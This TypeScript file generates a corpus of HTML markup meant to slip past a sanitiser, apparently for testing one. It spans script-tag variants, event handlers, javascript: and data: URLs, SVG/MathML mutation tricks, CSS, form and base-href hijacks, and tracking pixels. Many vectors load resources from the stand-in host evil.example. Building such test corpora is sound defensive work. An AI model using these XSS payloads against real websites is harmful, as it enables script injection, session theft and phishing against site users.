import { createRequire } from 'node:module';

/**
 * Markup that tries to get something past a sanitiser, generated class by class: what it is to run (`hit()`, which only
 * a test's page defines) or to load (`evil.example`), and the notations that browsers forgive. Deterministic.
 */
export function attackVectors(): string[] {
  const vectors = [
    ...scripts(),
    ...handlers(),
    ...addresses(),
    ...foreignContent(),
    ...rawText(),
    ...styles(),
    ...forms(),
    ...framesAndPlugins(),
    ...headElements(),
    ...pictures(),
    ...brokenTags(),
    ...comments(),
    ...pixels(),
  ];
  return [...new Set(vectors.flatMap(inPlaces))];
}

/** The attacks of DOMPurify's own test suite, from the last release of its package that shipped it. */
export function knownAttacks(): string[] {
  const fixtures: readonly { readonly payload: string }[] = createRequire(import.meta.url)(
    'dompurify-fixtures/test/fixtures/expect.js',
  );
  return fixtures.map(({ payload }) => payload);
}

/** Where on a page an attack may stand: each changes how a parser reads it. */
const PLACES: readonly ((attack: string) => string)[] = [
  (attack) => attack,
  (attack) => `<p>before ${attack} after</p>`,
  (attack) => `<table><tr>${attack}<td>cell</td></tr></table>`,
  (attack) => `<a href="/story"><b>${attack}</a></b>`,
  (attack) => `<ul><li>one ${attack}<li>two</ul>`,
];

function inPlaces(attack: string): string[] {
  return PLACES.map((place) => place(attack));
}

const HIT = 'hit()';

function scripts(): string[] {
  const names = [
    'script',
    'SCRIPT',
    'ScRiPt',
    'script ',
    'script\n',
    'script/',
    'script\t',
    'script\f',
    'svg:script',
    'x:script',
  ];
  return names.flatMap((name) => [
    `<${name}>${HIT}</script>`,
    `<${name}>${HIT}`,
    `<${name} src=//evil.example/x.js></script>`,
    `<${name} type=module>${HIT}</${name}>`,
    `<scr<${name}>ipt>${HIT}</scr</${name}>ipt>`,
    `<${name} x=">" >${HIT}</script >`,
    `<!--<${name}>-->${HIT}</script>`,
    `\u0000<${name}>${HIT}</script>`,
    `<\u0000${name}>${HIT}</script>`,
    `<${name}\u0000>${HIT}</script>`,
  ]);
}

function handlers(): string[] {
  const elements = [
    'img src=x',
    'svg',
    'body',
    'video src=x',
    'audio src=x',
    'details open',
    'input autofocus',
    'marquee',
    'a href=/x',
    'p',
    'iframe',
    'object data=x',
    'math',
    'x-y',
    'figure',
    'td',
    'select autofocus',
    'textarea autofocus',
    'video><source src=x',
    'style',
  ];
  const names = [
    'onerror',
    'onload',
    'ONCLICK',
    'onMouseOver',
    'onfocus',
    'ontoggle',
    'onanimationstart',
    'onpointerover',
    'onbeforetoggle',
  ];
  const notations: readonly ((name: string) => string)[] = [
    (name) => ` ${name}=${HIT}`,
    (name) => ` ${name}="${HIT}"`,
    (name) => ` ${name}='${HIT}'`,
    (name) => `/${name}=${HIT}`,
    (name) => `\n${name}\n=\n${HIT}`,
    (name) => `\f${name}=${HIT}`,
    (name) => ` ${name}=&#104;it&lpar;&rpar;`,
    (name) => ` a="b"${name}=${HIT}`,
    (name) => ` =${name}=${HIT} ${name}=${HIT}`,
    (name) => ` "${name}=${HIT}`,
    (name) => ` \u0000${name}=${HIT}`,
    (name) => ` ${name}\u0000=${HIT}`,
    (name) => ` alt="&quot; ${name}=&quot;${HIT}" ${name}=\`${HIT}\``,
  ];
  return elements.flatMap((element, i) =>
    notations.map((notation, j) => `<${element}${notation(names[(i + j) % names.length]!)}>x`),
  );
}

function addresses(): string[] {
  const schemes = [
    'javascript',
    'JaVaScRiPt',
    'vbscript',
    'livescript',
    'jav\tascript',
    'java\nscript',
    'java&#10;script',
    'java&Tab;script',
    '&#106;avascript',
    '&#x6A;&#97vascript',
    ' \u0001javascript',
    '\u0000javascript',
    'view-source:javascript',
    'feed:javascript',
    'jar:javascript',
    'java\u0000script',
    'javascript&colon;//%0a',
    'blob',
    'filesystem',
    'file',
  ];
  const slots: readonly ((address: string) => string)[] = [
    (address) => `<a href="${address}">x</a>`,
    (address) => `<a href=${address.replace(/\s/g, '')}>x</a>`,
    (address) => `<img src="${address}">`,
    (address) => `<video src="${address}" poster="${address}"></video>`,
    (address) => `<q cite="${address}">x</q><blockquote cite='${address}'>x</blockquote>`,
    (address) => `<area href="${address}"><map name=m><area href="${address}"></map>`,
    (address) => `<svg><a xlink:href="${address}"><text>x</text></a></svg>`,
    (address) => `<img srcset="${address} 2x, ${address}">`,
    (address) => `<table background="${address}"><tr><td background="${address}">x</table>`,
  ];
  const data = [
    'data:text/html,<script>hit()</script>',
    'data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==',
    'DATA:image/svg+xml,<svg onload=hit()>',
    'data:,x',
    'data&colon;text/html,x',
  ];
  const all = [...schemes.map((scheme) => `${scheme}:${HIT}`), ...data];
  return all.flatMap((address) => slots.map((slot) => slot(address)));
}

function foreignContent(): string[] {
  const inner = [
    `<img src=x onerror=${HIT}>`,
    `<script>${HIT}</script>`,
    `<a id="</style><img src=x onerror=${HIT}>">`,
    `<img title="--&gt;&lt;img src=x onerror=${HIT}&gt;">`,
  ];
  const shells: readonly ((payload: string) => string)[] = [
    (x) => `<svg>${x}</svg>`,
    (x) => `<svg><style>${x}</style></svg>`,
    (x) => `<svg></p><style>${x}`,
    (x) => `<svg><title>${x}</title></svg>`,
    (x) => `<svg><desc>${x}</desc></svg>`,
    (x) => `<svg><foreignObject>${x}</foreignObject></svg>`,
    (x) => `<svg><p><style><!--</style>${x}--></style>`,
    (x) => `<svg><![CDATA[><${x}]]></svg>`,
    (x) => `<math>${x}</math>`,
    (x) => `<math><mi><style>${x}</style></mi></math>`,
    (x) => `<math><mtext><table><mglyph><style>${x}</style></mglyph></table></mtext></math>`,
    (x) => `<math><mtext><table><mglyph><style><!--</style>${x}`,
    (x) => `<form><math><mtext></form><form><mglyph><style></math>${x}`,
    (x) => `<math><annotation-xml encoding="text/html">${x}</annotation-xml></math>`,
    (x) => `<math><annotation-xml><p><style>${x}</style></annotation-xml></math>`,
    (x) => `<math><mtext><p></math>${x}`,
    (x) => `<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style>${x}"></style></h1>`,
    (x) => `<svg><mathx><style>${x}</style></mathx></svg>`,
    (x) => `<svg><animate attributeName=href values=javascript:${HIT}></animate>${x}</svg>`,
    (x) => `<svg><set attributeName=onmouseover to=${HIT}></set>${x}</svg>`,
    (x) => `<svg><use href="data:image/svg+xml,&lt;svg id=x onload=${HIT}&gt;#x"></use>${x}</svg>`,
    (x) => `<svg><image href=x onerror=${HIT}></image>${x}</svg>`,
  ];
  return shells.flatMap((shell) => inner.map(shell));
}

function rawText(): string[] {
  const names = [
    'noscript',
    'noembed',
    'noframes',
    'xmp',
    'plaintext',
    'listing',
    'textarea',
    'title',
    'template',
    'iframe',
    'select',
    'option',
    'style',
    'frameset',
    'keygen',
    'portal',
    'slot',
  ];
  return names.flatMap((name) => [
    `<${name}><img src=x onerror=${HIT}></${name}>`,
    `<${name}><p title="</${name}><img src=x onerror=${HIT}>"></${name}>`,
    `<${name}></${name}><img src=x onerror=${HIT}>`,
    `<${name}><!--</${name}><img src=x onerror=${HIT}>--></${name}>`,
    `<${name}><${name}><script>${HIT}</script></${name}></${name}>`,
    `<p title="<${name}>"><img alt="</${name}>" src=/ok.png></p>`,
    `<svg><${name}><img src=x onerror=${HIT}></${name}></svg>`,
  ]);
}

function styles(): string[] {
  const rules = [
    '@import "//evil.example/x.css";',
    'body{background:url(//evil.example/x.png)}',
    '*{width:expression(hit())}',
    '*{-moz-binding:url(//evil.example/x.xml#x)}',
    '@\\69mport url(//evil.example/x.css)',
    '</style><img src=x onerror=hit()>',
  ];
  return rules.flatMap((rule) => [
    `<style>${rule}</style>`,
    `<STYLE type="text/css">${rule}`,
    `<p style='${rule}'>x</p>`,
    `<p style="background:url(javascript:hit())${rule.replace(/"/g, '&quot;')}">x</p>`,
    `<div style="x:\\65xpression(hit())"><style><!--</style>${rule}--></style>`,
    `<link rel=stylesheet href="data:text/css,${encodeURIComponent(rule)}">`,
    `<font style="${rule.replace(/"/g, '')}" color="red" face="x">x</font>`,
  ]);
}

function forms(): string[] {
  return ['form', 'FORM', 'form id=f'].flatMap((form) => [
    `<${form} action=//evil.example><input name=p type=password autofocus onfocus=${HIT}></form>`,
    `<${form} action="javascript:${HIT}"><button>x</button></form>`,
    `<${form}><button formaction="javascript:${HIT}">x</button></form>`,
    `<${form}><input type=image src=//evil.example/x.png formaction=//evil.example></form>`,
    `<${form}><input name=attributes><input name=parentNode>x</form>`,
    `<button form=f formaction=//evil.example>x</button><${form}>`,
    `<isindex action=javascript:${HIT} type=image>`,
    `<${form}><div></form><form><img src=x onerror=${HIT}>`,
  ]);
}

function framesAndPlugins(): string[] {
  return [
    `<iframe src="javascript:${HIT}"></iframe>`,
    `<iframe srcdoc="<script>parent.${HIT}</script>"></iframe>`,
    `<iframe srcdoc="&lt;img src=x onerror=parent.${HIT}&gt;" sandbox="allow-scripts"></iframe>`,
    '<iframe src=//evil.example></iframe>',
    '<iframe src="https://www.youtube.com.evil.example/embed/abcdefghijk"></iframe>',
    `<iframe src="https://www.youtube.com/embed/abcdefghijk?x=&quot;><script>${HIT}</script>"></iframe>`,
    '<iframe src="https://www.facebook.com/plugins/post.php?href=javascript:hit()"></iframe>',
    '<iframe src="https://www.facebook.com/plugins/post.php?href=https://evil.example/"></iframe>',
    `<iframe onload=${HIT} src="https://player.vimeo.com/video/1"></iframe>`,
    '<object data=//evil.example/x.swf><param name=movie value=//evil.example/x.swf></object>',
    `<object data="data:text/html,<script>${HIT}</script>"></object>`,
    `<object type=text/html><img src=x onerror=${HIT}></object>`,
    '<embed src=//evil.example/x.swf allowscriptaccess=always>',
    `<embed src="javascript:${HIT}">`,
    '<applet code=x archive=//evil.example/x.jar></applet>',
    '<frameset><frame src=//evil.example></frameset>',
    `<portal src="data:text/html,<script>${HIT}</script>">`,
    '<fencedframe src=//evil.example></fencedframe>',
    `<canvas onclick=${HIT}><img src=x onerror=${HIT}></canvas>`,
    `<dialog open oncancel=${HIT}>x</dialog>`,
    `<p popover id=x onbeforetoggle=${HIT}>x</p><button popovertarget=x>y</button>`,
  ];
}

function headElements(): string[] {
  return [
    `<meta http-equiv=refresh content="0;url=javascript:${HIT}">`,
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=//evil.example">',
    '<meta http-equiv="Set-Cookie" content="a=b">',
    '<meta http-equiv=Content-Security-Policy content="img-src *">',
    '<base href=//evil.example/><a href="x">x</a><img src="x.png">',
    `<base href="javascript:${HIT}//"><a href="x">x</a>`,
    '<link rel=import href=//evil.example/x.html>',
    '<link rel=prefetch href=//evil.example/x><link rel="dns-prefetch preconnect" href=//evil.example>',
    `<html onload=${HIT}><head onload=${HIT}><body onload=${HIT} onpageshow=${HIT} background=//evil.example/x.png>x`,
    '<html manifest=//evil.example/x.manifest>',
    '<title></title><meta http-equiv=refresh content="0;url=//evil.example">',
    '<a href="https://ok.example" ping="//evil.example" target=_blank rel=opener download>x</a>',
    '<p itemtype="//evil.example" is="x-y" slot=x contenteditable id=location name=body class=x>x</p>',
    '<img src=/ok.png usemap=#m ismap longdesc=//evil.example lowsrc=//evil.example/x.png dynsrc=//evil.example/x>',
  ];
}

function pictures(): string[] {
  return [
    `<img srcset="javascript:${HIT} 2x">`,
    `<img srcset="/ok.png 1x, javascript:${HIT} 3x, data:text/html,x 4x">`,
    `<picture><source srcset="javascript:${HIT} 900w" onerror=${HIT}><img src="/ok.png"></picture>`,
    `<img data-src="javascript:${HIT}" src="data:image/gif;base64,R0">`,
    `<img data-src='/ok.png" onerror="${HIT}'>`,
    `<img data-srcset="/ok.png?&quot;onerror=${HIT} 2x">`,
    `<noscript><img src="/ok.png" onerror=${HIT}></noscript>`,
    `<noscript>&lt;img src=x onerror=${HIT}&gt;</noscript>`,
    `<noscript><img src="javascript:${HIT}"><script>${HIT}</script></noscript>`,
    `<image src=x onerror=${HIT}>`,
    `<img src="x\` \`<script>${HIT}</script>"\` \`>`,
    `<img src="/a.png?x=<script>${HIT}</script>" alt="<script>${HIT}</script>" title="--><img src=x onerror=${HIT}>">`,
    `<video poster="javascript:${HIT}"><source src="javascript:${HIT}" type="text/html"><track src=//evil.example/x.vtt default></video>`,
  ];
}

function brokenTags(): string[] {
  return [
    `<img """><script>${HIT}</script>">`,
    `<img src=/ok.png alt="a onerror=${HIT}`,
    `<a href="/x" title='a" onclick="${HIT}'>x</a>`,
    `<a title="&#34; onclick=&#34;${HIT}" href="/x">x</a>`,
    `<<script>${HIT}//<</script>`,
    `<p <script>${HIT}</script>`,
    `<div><a href="/x"><table><a href="/y" onclick=${HIT}>x`,
    `<b><p><i></b><script>${HIT}</script></i></p>`,
    `<table><td><form><tr><script>${HIT}</script>`,
    `</p></br></script><img src=x onerror=${HIT}>`,
    `<p/onclick=${HIT}/x>x`,
    `<a/href="javascript:${HIT}"/>x`,
    `<a href=x"onclick="${HIT}">x</a>`,
    `&lt;script&gt;${HIT}&lt;/script&gt;`,
    `&amp;lt;img src=x onerror=${HIT}&amp;gt;`,
    `\u2028<script>${HIT}</script>\ufeff`,
    `+ADw-script+AD4-${HIT}+ADw-/script+AD4-`,
    `<a href="https://a.example/&quot;onmouseover=&quot;${HIT}">x</a>`,
    `<ruby><rt><a href="javascript:${HIT}">x</rt></ruby>`,
    `<q title="</title><script>${HIT}</script>">x</q><abbr title="</noscript><img src=x onerror=${HIT}>">y</abbr>`,
    `<time datetime="2025-01-01<script>${HIT}</script>">x</time>`,
    `<td colspan="2<script>">x</td><ol start="1 onclick=${HIT}"><li value="x">y</ol>`,
    `<a href="//evil.example:80@ok.example/">x</a><a href="https://user:secret@ok.example/">y</a>`,
  ];
}

function comments(): string[] {
  const openings = [
    '<!--',
    '<!-->',
    '<!--->',
    '<!',
    '<!-',
    '<?',
    '</',
    '</ ',
    '<![CDATA[',
    '<!--[if IE]>',
    '<!DOCTYPE x [',
    '<%',
    '<!--!>',
    '<? xml ?>',
    '<!ENTITY x "',
  ];
  return openings.flatMap((opening) => [
    `${opening}<img src=x onerror=${HIT}>-->`,
    `${opening}--!><img src=x onerror=${HIT}>`,
    `${opening}]]><script>${HIT}</script>`,
    `${opening}><script>${HIT}</script>`,
  ]);
}

function pixels(): string[] {
  const track = 'utm_source=x&fbclid=y&gclid=z&mc_cid=w';
  return [
    `<img src="https://t.example/a.gif" width=1 height=1>`,
    `<img src="https://t.example/a.gif" width="1px" height="0">`,
    `<img src="https://t.example/a.gif" style="width:1px;height:1px">`,
    `<img src="https://t.example/a.gif" style="display: none">`,
    `<img src="https://t.example/a.gif" hidden>`,
    `<img src="https://pixel.t.example/a?x=1"><img src="https://t.example/pixel.gif?u=1"><img src="https://www.facebook.com/tr?id=1">`,
    `<img src="https://sb.scorecardresearch.com/p?c1=2"><img src="https://ad.doubleclick.net/ddm/x"><img src="https://vg07.met.vgwort.de/na/abc">`,
    `<img src="https://www.google-analytics.com/collect?v=1"><img src="https://t.example/piwik.php?idsite=1"><img src="https://t.example/matomo.php?idsite=1">`,
    `<a href="/x?${track}&id=7#s">x</a><a href="/y?${track.replace(/&/g, '&amp;')}">y</a><a href="/z?%75tm_source=x">z</a>`,
    `<a href="/x?UTM_Campaign=a&amp;amp;utm_medium=b">x</a><a href="/x#utm_source=rss">y</a><a href="/x#xtor=RSS-1">z</a>`,
    `<img src="/ok.png?${track}"><video src="/ok.mp4?${track}" poster="/ok.jpg?${track}"></video>`,
    `<audio src="https://pixel.t.example/a.mp3" autoplay controls></audio><video src="/ok.mp4" width=1 height=1 autoplay></video>`,
  ];
}
